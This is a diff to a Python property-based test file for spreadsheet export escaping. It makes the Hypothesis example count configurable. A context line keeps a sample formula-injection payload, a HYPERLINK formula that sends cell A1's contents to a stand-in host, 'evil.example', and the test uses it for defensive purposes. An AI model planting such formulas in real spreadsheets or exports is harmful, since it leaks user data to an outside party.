@@ -30,6 +30,7 @@ from readmodels.index import UnitScore
 from readmodels.model import Awaiting, AwaitingItem, Figures, LateItem
 from tests.api.conftest import Api, api_on
 from tests.api.test_pages import visitor
+from tests.hypothesis_profiles import examples
 
 TRIGGERS = ("=", "+", "-", "@", "\t", "\r", "\n")
 HYPERLINK = '=HYPERLINK("http://evil.example/?leak="&A1,"Click me")'
@@ -169,7 +170,11 @@ def xlsx_text(text: str) -> str:
     return "".join(chr(0x2400 + ord(c)) if ord(c) < 32 and c not in "\t\n" else c for c in text)
 
 
-@settings(max_examples=150, deadline=None, suppress_health_check=[HealthCheck.too_slow])
+@settings(
+    max_examples=examples(50, thorough=500),
+    deadline=None,
+    suppress_health_check=[HealthCheck.too_slow],
+)
 @given(
     text=st.one_of(
         st.text(min_size=1),
